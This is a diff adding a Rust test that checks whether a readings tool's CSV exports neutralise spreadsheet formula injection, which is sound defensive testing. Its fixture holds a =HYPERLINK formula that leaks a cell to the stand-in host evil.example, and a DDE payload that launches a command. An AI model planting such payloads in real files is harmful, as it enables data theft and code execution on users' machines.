@@ -1,6 +1,8 @@
-//! `import-readings` with files as spreadsheet programs outside the US and
-//! UK write them, through the real binary: semicolons and decimal commas,
-//! Windows-1252 and UTF-16 text, and day-first dates.
+//! `import-readings` and `export-readings` with files as spreadsheet
+//! programs outside the US and UK write and read them, through the real
+//! binary: semicolons and decimal commas, Windows-1252 and UTF-16 text,
+//! day-first dates, and exports that open right (a byte-order mark, no
+//! cell that runs as a formula) and read back exactly.
 
 #![allow(clippy::unwrap_used)] // helpers outside #[test] functions panic as test failures
 
@@ -271,4 +273,92 @@ fn bad_options_are_one_line_quoting_the_value() {
         "{said}"
     );
     assert_eq!(readings(&t, "Growth"), Vec::<String>::new());
+}
+
+const HOSTILE: [(&str, &str, &str); 4] = [
+    (
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
+        "-5",
+        "+1 from the call",
+    ),
+    ("-5 churn", "-0.25", "=cmd|' /C calc'!A0"),
+    ("'quoted", "3", "'=not a formula"),
+    ("@risk", "12", "@owner said so"),
+];
+
+/// A team whose measure names a spreadsheet would run as formulas; with
+/// `record`, negative values and notes that start like formulas too.
+fn hostile(record: bool) -> Sandbox {
+    let t = Sandbox::new();
+    t.ok("init --team Ops");
+    for (name, value, note) in HOSTILE {
+        // After `--`, a name that starts with `-` is not read as a flag.
+        let add = [
+            "measure", "add", "--owner", "Ana", "--target", "1", "--", name,
+        ];
+        t.exec(&[], &[&["--db", "team.db"][..], &add].concat()).ok();
+        if record {
+            let note = format!("--note={note}");
+            let rec = ["record", "--week", "2026-W48", &note, "--", name, value];
+            t.exec(&[], &[&["--db", "team.db"][..], &rec].concat()).ok();
+        }
+    }
+    t
+}
+
+#[test]
+fn exports_start_with_a_bom_guard_formulas_and_read_back_exactly() {
+    let a = hostile(true);
+    for form in ["wide", "long"] {
+        a.ok(&format!("export-readings --form {form} --out {form}.csv"));
+        let bytes = std::fs::read(a.path(&format!("{form}.csv"))).unwrap();
+        assert!(
+            bytes.starts_with(b"\xEF\xBB\xBFweek,") || bytes.starts_with(b"\xEF\xBB\xBFmeasure,")
+        );
+        let text = String::from_utf8(bytes).unwrap();
+        // No cell starts with a formula's first character.
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        for record in reader.records() {
+            for (i, cell) in record.unwrap().iter().enumerate() {
+                let is_value = if form == "wide" { i > 0 } else { i == 2 };
+                if !is_value {
+                    assert!(!cell.starts_with(['=', '+', '-', '@']), "{form}: {cell:?}");
+                }
+            }
+        }
+        assert!(text.contains("'=HYPERLINK("), "{text}");
+        // Values stay numbers a spreadsheet can sum.
+        assert!(text.contains(",-5") && text.contains(",-0.25"), "{text}");
+    }
+    let text = std::fs::read_to_string(a.path("long.csv")).unwrap();
+    assert_eq!(
+        text,
+        "\u{feff}measure,week,value,note\n\
+         \"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\",2026-W48,-5,'+1 from the call\n\
+         '-5 churn,2026-W48,-0.25,'=cmd|' /C calc'!A0\n\
+         ''quoted,2026-W48,3,''=not a formula\n\
+         '@risk,2026-W48,12,'@owner said so\n"
+    );
+
+    // Into a second database with the same measures: the same readings,
+    // notes and all, and the same export, byte for byte.
+    let b = hostile(false);
+    assert_eq!(readings(&b, "Ops"), Vec::<String>::new());
+    std::fs::copy(a.path("long.csv"), b.path("long.csv")).unwrap();
+    assert_eq!(
+        b.ok("import-readings long.csv"),
+        "Imported long.csv into Ops: 4 added, 0 changed, 0 unchanged\n"
+    );
+    assert_eq!(readings(&b, "Ops"), readings(&a, "Ops"));
+    assert!(readings(&a, "Ops").contains(&"'quoted 2026-W48 3 \"'=not a formula\"".to_string()));
+    b.ok("export-readings --form long --out back.csv");
+    assert_eq!(std::fs::read_to_string(b.path("back.csv")).unwrap(), text);
+    // The wide form carries the values back onto the same measures.
+    std::fs::copy(a.path("wide.csv"), b.path("wide.csv")).unwrap();
+    assert_eq!(
+        b.ok("import-readings wide.csv"),
+        "Nothing to import into Ops: all 4 readings in wide.csv are already recorded\n"
+    );
 }
